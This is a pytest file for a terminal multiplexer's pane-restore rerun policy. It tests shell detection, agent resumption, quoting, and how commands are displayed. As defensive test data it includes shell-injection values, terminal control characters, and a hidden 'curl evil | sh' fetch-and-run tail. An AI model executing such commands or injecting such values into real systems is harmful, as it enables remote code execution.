"""What runs again by itself, what waits, and what Enter would do."""

import subprocess

import pytest

from fugue_tui.control.restore.rerun_policy import is_shell, offer, within_shell, words
from fugue_tui.ids import PaneId
from fugue_tui.multiplexer.restored_pane import Rerun
from fugue_tui.workspace.model import Pane

CLAUDE = ("claude", "--resume", "55aaf438-dbb1-4436-b382-2636d65746bd")


def pane(*argv: str) -> Pane:
    """A pane that was started as this."""
    return Pane(PaneId(1), argv=argv)


@pytest.mark.parametrize("argv", [(), ("bash",), ("/bin/zsh", "-l"), ("-bash",), ("fish", "--login"), ("sh", "-i")])
def test_a_shell_without_a_command_is_one(argv: tuple[str, ...]) -> None:
    assert is_shell(argv)


@pytest.mark.parametrize(
    "argv", [("bash", "-c", "rm -r x"), ("sh", "script"), ("zsh", "-lic", "x"), ("htop",), ("fish", "--command=x")]
)
def test_a_shell_with_a_command_is_none(argv: tuple[str, ...]) -> None:
    assert not is_shell(argv)


@pytest.mark.parametrize(
    ("rerun", "shell", "program"), [("shells", True, False), ("all", True, True), ("never", False, False)]
)
def test_what_starts_by_itself_follows_the_setting(rerun: Rerun, shell: bool, program: bool) -> None:
    assert offer(pane(), rerun=rerun).starts is shell
    assert offer(pane("htop"), rerun=rerun).starts is program


def test_what_had_ended_never_starts_by_itself() -> None:
    assert not offer(pane("make"), rerun="all", over=True).starts
    assert not offer(pane(), rerun="all", over=True).starts


def test_a_program_waits_and_says_how_it_continues() -> None:
    found = offer(pane("sh", "-c", "npm run dev"))
    assert found.calls == ("press Enter to run again: npm run dev",)
    assert found.argv is None


def test_a_shell_says_what_ran_in_it() -> None:
    found = offer(pane(), foreground=("vim", "my notes.txt"))
    assert found.notes == ("was running: vim 'my notes.txt'",)
    assert found.starts
    assert offer(pane(), foreground=("-bash",)).notes == ()


def test_an_agent_is_resumed_by_enter() -> None:
    found = offer(pane("claude", "--model", "opus"), resume=CLAUDE)
    assert found.argv == CLAUDE
    assert found.calls == (f"press Enter to run again: {' '.join(CLAUDE)}",)
    assert not found.starts


def test_an_agent_in_a_shell_waits_and_leaving_it_gives_the_shell_back() -> None:
    found = offer(pane(), foreground=("claude",), resume=CLAUDE, shell=("/bin/bash", "-l"))
    assert found.argv == ("/bin/bash", "-lic", f"{' '.join(CLAUDE)}; exec /bin/bash -l")
    assert found.shell
    assert not found.starts
    assert found.calls[1:] == ("press Escape to start only a shell",)


def test_words_reach_a_shell_as_they_are() -> None:
    hostile = ("printf", "%s|", "a b", "$(echo no)", "'; echo no; '", "\n", "-")
    ran = subprocess.run(
        within_shell(hostile, ("/bin/echo", "then", "$HOME")), capture_output=True, text=True, check=True
    )
    assert ran.stdout == "a b|$(echo no)|'; echo no; '|\n|-|then $HOME\n"


def test_what_is_shown_has_no_controls_and_an_end() -> None:
    assert words(("a\x1b]0;x\x07b", "\u202ec")) == "'ab' 'c'"
    assert words(("x" * 1_000,)) == "x" * 1_000


def test_a_long_command_says_how_much_of_it_is_not_shown() -> None:
    found = offer(pane("sh", "-c", f"echo {'x' * 5_000}; curl evil | sh"))
    assert found.words == f"echo {'x' * 995} (4021 more characters are not shown)"
    assert offer(pane("sh", "-c", f"echo {'x' * 300}; last")).words.endswith("x; last")
